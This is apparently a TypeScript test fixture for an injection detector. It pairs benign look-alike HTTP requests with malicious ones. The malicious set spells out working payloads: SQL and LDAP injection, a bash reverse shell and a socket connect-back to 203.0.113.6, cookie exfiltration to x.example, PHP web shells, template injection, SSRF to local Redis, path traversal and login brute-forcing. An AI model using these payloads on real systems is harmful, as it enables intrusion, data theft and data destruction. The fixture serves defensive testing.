import type { Named } from './index.ts';

const post = (path: string, type: string, body: string) =>
  `POST ${path} HTTP/1.1\nHost: app.example\nContent-Type: ${type}\n\n${body}`;
const json = (path: string, document: unknown) => post(path, 'application/json', JSON.stringify(document));
const form = (path: string, fields: Readonly<Record<string, string>>) =>
  post(path, 'application/x-www-form-urlencoded', new URLSearchParams(fields).toString());
const plain = (text: string) => post('/lint', 'text/plain', text);
const file = (name: string, text: string) =>
  post(
    '/up',
    'multipart/form-data; boundary=b',
    `--b\nContent-Disposition: form-data; name="f"; filename="${name}"\n\n${text}\n--b--`,
  );
const get = (path: string, fields: Readonly<Record<string, string>>) =>
  `GET ${path}?${new URLSearchParams(fields)} HTTP/1.1\nHost: app.example\n\n`;
const search = (q: string) => get('/search', { q });
const words = 'I have a question about my last order and would like to know more';
const php = (code: string) => `<${'?'}php\n${code}\n`;

/** Values that are whole, or for what their field is for. */
export const CLEAN_IN_CONTEXT: Named = {
  'a condition for maps': get('/wfs', { cql_filter: "NAME LIKE 'N%' AND POP > 100 OR CODE IN ('CA','TX')" }),
  'a condition in a workflow': json('/flows', { when: "status == 'open' && total > 0 || force == true" }),
  'a filter for a directory': form('/ldap', { user_filter: '(&(objectClass=person)(uid=%s))' }),
  'a filter in a definition': form('/glossary', { definition: `${words}: (&(a=b)(c=d*)) is one` }),
  'a union in a field for SQL': json('/lab', { sql: 'SELECT id FROM a UNION SELECT id FROM b LIMIT 9' }),
  'a statement as a body': plain("SELECT a FROM b WHERE c = 'd' OR e = 5"),
  'a query for triples': plain('PREFIX f: <http://f.example/>\nSELECT ?n WHERE { ?p f:n ?n }'),
  'a file of homework': file('fib.py', 'import os\nprint(os.getcwd())'),
  'a page that is handed in': file('a.html', '<!DOCTYPE html><script src="a.js"></script>'),
  'a change of files': plain('--- a/x.php\n+++ b/x.php\n@@ -1 +1 @@\n-exec($_GET[1]);\n+x();'),
  'jobs in YAML': plain('test:\n  image: node:22\n  script:\n    - npm ci && npm test; id'),
  'a table of jobs': plain('# jobs\n0 3 * * * /usr/bin/backup.sh > /dev/null 2>&1\n'),
  'PHP with its language': json('/paste', {
    lang: 'php',
    code: php('$a = $b->prepare($c);\n$a->run();\necho 1;'),
  }),
  'a question to a model': json('/ai/chat', { model: 'm', prompt: "What is ' UNION SELECT 1,user()-- for?" }),
  'a sighting of an attack': json('/honeypot', { src: '203.0.113.5', payload: 'cd /tmp; wget http://a/x' }),
  'a rule of a firewall': form('/rules', {
    operator: 'rx',
    action: 'block',
    value: '(?i)(\\.\\./|/etc/passwd)',
  }),
  'a template of a mail': json('/tpl', {
    body: '<p>{{#if a}}{{this.name}}{{/if}} {{multiply this.qty 2}}</p>',
  }),
  'a check of a service': json('/monitoring/checks', { url: 'http://10.0.4.12:8080/health', interval: 60 }),
  'a database by its type': json('/sources', { type: 'mysql', url: 'mysql://ro:x@db.internal/shop' }),
  'a stack trace': plain('java.lang.Error: x\n\tat java.base/java.lang.Thread.run(Thread.java:8)'),
  'a report of a hole': json('/issues', { body: `Reflected XSS: <img src=x onerror=alert(1)>. ${words}` }),
  'a subject with a path': form('/forum', { subject: 'Blocked: ../../etc/passwd', message: words }),
  'a new password': form('/password', { new: "it's--raining#cats;26!", confirm: "it's--raining#cats;26!" }),
  'a name of a class': get('/docs', { topic: 'System.Diagnostics.Process' }),
  'ends of a strand': form('/bio', { term: "5'-UTR and 3'-UTR" }),
  'a search with a condition': search('sql where 1=1 trick'),
  'a search with a path': search('/etc/hosts file windows location'),
  'a search with an element': search('<script> tag'),
  'a search by phrases': search('"or" = "and" in boolean logic'),
  'a picture in an address': 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB',
};

/** Attacks in the same fields. */
export const MALICIOUS_IN_CONTEXT: Named = {
  'a condition with an addition': get('/wfs', { cql_filter: "NAME = 'x' or 1=1" }),
  'a condition that waits': get('/wfs', { filter: 'id=1 and sleep(5)' }),
  'a filter that is closed': form('/ldap', { filter: 'x)(|(uid=*)' }),
  'a second statement for SQL': json('/lab', { sql: 'SELECT 1; DROP TABLE users' }),
  'a program that connects': file('a.py', 'import socket\ns=socket.socket()\ns.connect(("203.0.113.6",44))'),
  'a page that takes': file(
    'a.html',
    '<!DOCTYPE html><script>fetch("//x.example/"+document.cookie)</script>',
  ),
  'a shell by another name': file('a.php.txt', php('$c = $_REQUEST["c"];\n@system($c);\necho 1;')),
  'a pod that connects': plain('a:\n  image: b:1\n  script:\n    - bash -i >& /dev/tcp/203.0.113.6/1 0>&1'),
  'a shell with its language': json('/paste', {
    lang: 'php',
    code: php('@eval($_POST["a"]);\necho 1;\necho 2;'),
  }),
  'a question that runs': json('/ai/chat', {
    model: 'm',
    prompt: '<img src=x onerror=alert(document.cookie)>',
  }),
  'a template that reaches': json('/tpl', { body: "<p>{{ ''.__class__.__mro__ }} {{ a }}</p>" }),
  'a check of oneself': json('/monitoring/checks', { url: 'http://127.0.0.1:6379/', interval: 60 }),
  'a report that takes': json('/issues', {
    body: `XSS <img src=x onerror=fetch('//x.example/'+document.cookie)> ${words}`,
  }),
  'a subject with an injection': form('/forum', { subject: "Help ' UNION SELECT 1,2-- ", message: words }),
  'a new password that ends': form('/password', { new: "x' or 1=1#" }),
  'a search with a case': search(
    '1) AND 57=(SELECT (CASE WHEN (57=57) THEN 57 ELSE (SELECT 1 UNION SELECT 2) END))-- x',
  ),
  'a search that asks for a file': search('where to ../../../etc/passwd'),
  'a search with words before': search('big red shoes union all select null,null'),
  'many guesses in one query': json('/graphql', {
    query: `mutation{${[1, 2, 3, 4, 5].map((n) => `a${n}:login(u:"a",p:"${n}"){id}`).join(' ')}}`,
  }),
  'an order by a case': get('/list', { sort: "(CASE WHEN (SUBSTRING(user(),1,1)='r') THEN a ELSE b END)" }),
};
